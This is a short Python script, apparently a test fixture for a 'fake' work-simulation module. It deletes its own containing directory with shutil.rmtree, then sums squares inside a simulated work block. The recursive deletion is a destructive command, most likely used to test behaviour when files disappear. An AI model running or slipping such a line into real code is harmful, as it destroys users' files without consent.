import fake
import os
import shutil

shutil.rmtree(os.path.dirname(os.path.abspath(__file__)))
with fake.work():
    total = sum(i * i for i in range(20000))
fake.digest(1)
